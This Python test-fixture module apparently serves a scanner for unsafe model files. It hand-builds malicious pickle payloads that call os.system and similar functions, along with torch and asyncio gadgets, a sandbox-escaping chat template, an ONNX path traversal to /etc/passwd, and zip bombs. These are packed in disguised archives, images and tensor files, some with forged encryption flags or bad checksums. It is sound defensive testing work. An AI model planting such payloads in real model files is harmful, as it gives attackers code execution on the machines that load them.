"""Files as attackers and as honest people make them: opcodes by hand, so nothing is ever loaded."""

import collections
import gzip
import io
import json
import pickle
import pickletools
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path
from struct import pack
from typing import Any


def call(module: str, name: str, argument: str = "echo pwned", protocol: int = 0) -> bytes:
    """A pickle that calls a function with one text."""
    if protocol == 0:
        return f"c{module}\n{name}\n(S'{argument}'\ntR.".encode()
    parts = [b"\x80\x04", text(module), b"\x94", text(name), b"\x94\x93"]
    return b"".join([*parts, text(argument), b"\x85R."])


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def zipped(files: Mapping[str, bytes], *, compressed: bool = False) -> bytes:
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, raw in files.items():
            archive.writestr(name, raw)
    return out.getvalue()


def tarred(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, raw in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            archive.addfile(info, io.BytesIO(raw))
    return out.getvalue()


def encrypted(raw: bytes) -> bytes:
    """The same zip with the flag that says, falsely, that its members are encrypted."""
    marked = bytearray(raw)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(signature)
        while at >= 0:
            marked[at + place] |= 1
            at = marked.find(signature, at + 4)
    return bytes(marked)


def wrong_checksum(raw: bytes) -> bytes:
    """The same zip with wrong checksums: some loaders do not look at them, and zipfile does."""
    marked = bytearray(raw)
    for signature, place in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = marked.find(signature)
        while at >= 0:
            marked[at + place : at + place + 4] = b"\xde\xad\xbe\xef"
            at = marked.find(signature, at + 4)
    return bytes(marked)


def objects_array(payload: bytes) -> bytes:
    """An array of numpy whose elements are objects."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (117 - len(header)) + b"\n"
    return b"\x93NUMPY\x01\x00" + pack("<H", len(header)) + header + payload


def tensors(header: dict[str, Any], data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return pack("<Q", len(raw)) + raw + data


OS_SYSTEM = call("os", "system", protocol=4)
GETATTR = (
    b"\x80\x04" + text("builtins") + text("getattr") + b"\x93" + text("os") + text("system")
    + b"\x86R."
)  # fmt: skip
BY_MEMO = (
    b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940"
    + b"h\x00h\x01\x93" + text("id") + b"\x85R."
)  # fmt: skip
"""The names of the import lie in the memo, in the other order on no stack that one can see."""
LAMBDA = b'{"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda"}]}}'
KERAS_CALL = b'{"module": "builtins_but_not", "class_name": "function", "config": "system"}'
GGUF = b"GGUF" + pack("<IQQ", 3, 0, 1)
TEMPLATE = b"tokenizer.chat_template{{ ''.__class__.__mro__[1].__subclasses__() }}"
ONNX = b"\x08\x07\x12\x04test" + b"\x0a\x08location\x12\x10../../etc/passwd"

ATTACKS: dict[str, bytes] = {
    "os.pkl": OS_SYSTEM,
    "protocol-0.txt": call("posix", "system"),
    "checkpoint.pt": zipped({"archive/data.pkl": OS_SYSTEM, "archive/data/0": bytes(64)}),
    "deflated.bin": zipped({"x/data.pkl": OS_SYSTEM}, compressed=True),
    "runpy.pkl": call("runpy", "_run_code", protocol=4),
    "broken-tail.pkl": OS_SYSTEM[:-1] + b"\xffnonsense",
    "second.pkl": pickle.dumps([1, 2]) + OS_SYSTEM,
    "encrypted.pt": encrypted(zipped({"archive/data.pkl": OS_SYSTEM})),
    "checksum.pt": wrong_checksum(zipped({"archive/data.pkl": OS_SYSTEM}, compressed=True)),
    "model.safetensors": OS_SYSTEM,
    "getattr.pkl": GETATTR,
    "memo.pkl": BY_MEMO,
    "asyncio.pkl": call("asyncio.unix_events", "_UnixSubprocessTransport._start", protocol=4),
    "gadget.pkl": call("torch.utils._config_module", "ConfigModule.load_config", protocol=4),
    "nested-bytes.pkl": call("torch.storage", "_load_from_bytes", protocol=4),
    "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(500) + zipped({"data.pkl": OS_SYSTEM}),
    "array.npy": objects_array(OS_SYSTEM),
    "arrays.npz": zipped({"a.npy": objects_array(OS_SYSTEM)}),
    "model.joblib": zlib.compress(OS_SYSTEM),
    "model.pkl.gz": gzip.compress(OS_SYSTEM),
    "files.tar": tarred({"README": b"hello", "model.pkl": OS_SYSTEM}),
    "files.tar.gz": gzip.compress(tarred({"model.pkl": OS_SYSTEM})),
    "model.keras": zipped({"config.json": LAMBDA}),
    "model.h5": b"\x89HDF\r\n\x1a\n" + bytes(400) + LAMBDA,
    "call.keras": zipped({"config.json": KERAS_CALL}),
    "model.gguf": GGUF + TEMPLATE,
    "tokenizer_config.json": json.dumps({"chat_template": TEMPLATE.decode()}).encode(),
    "model.onnx": ONNX,
}
"""Each is unsafe to load."""

DUBIOUS: dict[str, bytes] = {
    "unknown.pkl": call("some_package.models", "Thing", protocol=4),
    "extension.pkl": b"\x80\x02\x82\x01)R.",
    "computed.pkl": b"\x80\x04" + b"K\x01K\x02\x93)R.",
    "dotted.pkl": call("torch.nn.modules.linear", "Linear.forward", protocol=4),
    "cut.pkl": pickle.dumps(list(range(2000)))[:-700],
    "cut.zip": zipped({"data.pkl": OS_SYSTEM})[:-10],
    "bomb.zip": zipped({"data.pkl": bytes(300_000_000)}, compressed=True),
    "bomb.gz": gzip.compress(bytes(300_000_000)),
    "members.7z": b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "members.rar": b"Rar!\x1a\x07\x01\x00" + bytes(100),
    "overlap.safetensors": tensors(
        {
            "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
        },
        bytes(12),
    ),
    "longer.safetensors": tensors(
        {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(64)
    ),
    "shape.safetensors": tensors(
        {"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, bytes(8)
    ),
    "text.safetensors": b"not at all",
    "counts.gguf": b"GGUF" + pack("<IQQ", 3, 1 << 60, 1 << 60),
    "graph.pb": b"\x0a\x04read\x12\x08ReadFile\x1a\x00",
    "not.pkl": b"\x00\x01\x02\x03",
    "twice.safetensors": pack("<Q", 92)
    + b'{"a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}, "a": {"dtype": "U8"}}'.ljust(
        92
    )
    + b"\0",
}
"""Of none of them anybody knows that it is safe."""


def torch_state(protocol: int = 2) -> bytes:
    """A state dict as ``torch.save`` pickles it: rebuilt tensors over persistent storages."""
    out = [b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01("]
    for number, name in enumerate(["weight", "bias"]):
        out += [b"X", pack("<I", len(name)), name.encode()]
        out += [b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storage"]
        out += [b"ctorch\nFloatStorage\nX\x01\x00\x00\x00" + str(number).encode()]
        out += [
            b"X\x03\x00\x00\x00cpuK\x04tQK\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n"
        ]
        out += [b")RtR"]
    out += [b"u."]
    raw = b"".join(out)
    pickletools.dis(raw, out=io.StringIO())
    return raw


def sklearn_model() -> bytes:
    """An estimator as scikit-learn 1.x pickles it, with an array of numpy."""
    array = (
        b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85C\x01btR"
        b"(K\x01K\x03\x85cnumpy\ndtype\nX\x02\x00\x00\x00f8\x89\x88\x87R"
        b"(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
        b"\x89C\x18" + bytes(24) + b"tb"
    )
    raw = (
        b"\x80\x03csklearn.linear_model._logistic\nLogisticRegression\n)\x81}(X\x05\x00\x00\x00coef_"
        + array
        + b"X\x01\x00\x00\x00CG?\xf0\x00\x00\x00\x00\x00\x00ub."
    )
    pickletools.dis(raw, out=io.StringIO())
    return raw


_LEGACY = b"".join(
    [
        pickle.dumps(0x1950A86A20F9469CFC6C, 2),
        pickle.dumps(1001, 2),
        pickle.dumps({"little_endian": True, "protocol_version": 1001}, 2),
        torch_state(),
        pickle.dumps(["0", "1"], 2),
        pack("<Q", 4) + bytes(range(16)),
    ]
)

HARMLESS: dict[str, bytes] = {
    "empty": b"",
    "README.md": b"# A model\n\nconfigure it\nby hand\n",
    "config.json": b'{"model_type": "bert", "hidden_size": 128}',
    "code.py": b"class A:\n    pass\n\n\nc = A()\nimport os\nos.system('ls')\n",
    "plain.pkl": pickle.dumps({"a": [1, 2.5, None], "b": collections.OrderedDict(x=b"y")}),
    "protocol-0.pkl": pickle.dumps({"a": [1, 2]}, protocol=0),
    "pytorch_model.bin": zipped(
        {
            "archive/data.pkl": torch_state(),
            "archive/byteorder": b"little",
            "archive/data/0": bytes(range(16)),
            "archive/data/1": bytes(range(16)),
            "archive/version": b"3\n",
        }
    ),
    "legacy.pth": _LEGACY,
    "model.pkl": sklearn_model(),
    "model.joblib": zlib.compress(sklearn_model()),
    "model.safetensors": tensors(
        {
            "__metadata__": {"format": "pt"},
            "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            "b": {"dtype": "BF16", "shape": [], "data_offsets": [8, 10]},
        },
        bytes(10),
    ),
    "array.npy": b"\x93NUMPY\x01\x00"
    + pack("<H", 58)
    + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".ljust(57)
    + b"\n"
    + bytes(8),
    "data.zip": zipped({"a.txt": b"hello", "b/c.csv": b"1,2\n"}, compressed=True),
    "data.tar.gz": gzip.compress(tarred({"a.txt": b"hello"})),
    "photo.jpg": b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8,
    "model.gguf": GGUF
    + b"tokenizer.chat_template{% for m in messages %}{{ m.content }}{% endfor %}",
    "tokenizer_config.json": b'{"chat_template": "{% for m in messages %}{{ m }}{% endfor %}"}',
    "model.keras": zipped({"config.json": b'{"class_name": "Dense", "module": "keras.layers"}'}),
    "noise.bin": bytes((n * 7919 + n // 251) % 256 for n in range(50_000)),
}
"""None of them is anything but safe."""


def on_disk(folder: Path, files: Mapping[str, bytes]) -> None:
    for name, raw in files.items():
        (folder / name).write_bytes(raw)
